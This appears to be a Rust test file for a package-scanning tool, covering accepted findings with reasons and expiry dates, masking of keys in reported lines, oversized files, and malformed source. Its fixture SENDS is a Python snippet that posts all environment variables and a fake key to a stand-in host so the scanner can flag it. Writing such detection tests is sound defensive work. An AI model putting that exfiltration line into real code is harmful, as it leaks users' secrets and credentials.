//! What was accepted is told as accepted; what is too large or hostile is told and read as far as it goes.

use noroshi_model::Level;
use noroshi_packages::source::{Acceptances, AnyRule, Grade, Hooks, MOST_BYTES, Reader, Rule};

const SENDS: &str = "import os, requests\nKEY = 'sk9f8a7b6c5d4e3f2a1b0c9d8e7f'\nrequests.post('https://collect.example.invalid/sk9f8a7b6c5d4e3f2a1b0c9d8e7f', json=dict(os.environ))\n";

fn accepted(text: &str) -> Acceptances {
    let (accepted, problems) =
        Acceptances::read("accept.toml", text, jiff::civil::date(2026, 11, 22));
    assert!(problems.is_empty(), "{problems:?}");
    accepted
}

#[test]
fn what_was_accepted_is_kept_with_its_reason_and_is_no_finding() {
    let text = "[[accept]]\npath = \"vendor/*\"\nrule = \"environment-to-network\"\nreason = \"our crash reporter\"\nuntil = \"2026-12-31\"";
    let reader = Reader::new(accepted(text));
    let hooks = Hooks::default();
    let (sightings, _) = reader.read("vendor/a.py", SENDS.as_bytes(), &hooks);
    let reason = sightings[0].accepted.as_ref().map(|one| one.reason.as_str());
    assert_eq!(reason, Some("our crash reporter"));
    assert_eq!(sightings[0].finding(), None);
    let (sightings, _) = reader.read("other/a.py", SENDS.as_bytes(), &hooks);
    assert_eq!(sightings[0].finding().map(|finding| finding.level), Some(Level::Now));
}

#[test]
fn keys_in_the_line_are_masked_in_what_is_shown() {
    let reader = Reader::new(Acceptances::default());
    let (sightings, _) = reader.read("a.py", SENDS.as_bytes(), &Hooks::default());
    assert_eq!(
        (sightings[0].rule.clone(), sightings[0].grade),
        (AnyRule::Built(Rule::EnvironmentSent), Grade::High)
    );
    assert_eq!(sightings[0].line, 3);
    let shown = format!("{:?}", sightings[0].finding());
    assert!(!shown.contains("8a7b6c5d4e3f2a1b0c"), "{shown}");
}

#[test]
fn a_file_beyond_the_limit_is_told_and_its_beginning_read() {
    let mut text = SENDS.as_bytes().to_vec();
    text.resize(MOST_BYTES + 1, b'\n');
    let reader = Reader::new(Acceptances::default());
    let (sightings, problems) = reader.read("a.py", &text, &Hooks::default());
    assert_eq!(problems[0].code, "NRS-PACKAGE-020");
    assert_eq!(sightings.len(), 1);
}

#[test]
fn deep_and_broken_source_is_read_without_falling() {
    let reader = Reader::new(Acceptances::default());
    let many = |part: &str| format!("import os, requests\nx = os.environ\n{}", part.repeat(4_000));
    for part in [
        "(",
        ")",
        "getattr(",
        "f'{",
        "`${",
        "a=",
        "lambda: ",
        "if x:\n ",
        "function f(a){",
        "{a:",
        "é",
        "\\",
    ] {
        for path in ["a.py", "setup.py", "a.js", "package.json", "a.pth"] {
            let (sightings, _) = reader.read(path, many(part).as_bytes(), &Hooks::default());
            assert!(sightings.iter().all(|one| one.line > 0), "{part} {path}");
        }
    }
    let (sightings, problems) = reader.read("a.py", b"", &Hooks::default());
    assert!(sightings.is_empty() && problems.is_empty());
    assert!(!Reader::reads("a.txt") && Reader::reads("setup.py"));
}

/// An acceptance names a rule: the reference must list every one.
#[test]
#[expect(clippy::disallowed_methods, reason = "the reference is a file")]
fn every_rule_stands_in_the_reference() {
    let folder = concat!(env!("CARGO_MANIFEST_DIR"), "/../../docs/reference/");
    for page in ["packages.md", "packages.ja.md"] {
        let text = std::fs::read_to_string(format!("{folder}{page}")).expect("the page is there");
        for rule in Rule::ALL {
            let row = format!("| `{}` | {} |", rule.word(), rule.grade().word());
            assert!(text.contains(&row), "{page}: {row}");
        }
    }
}
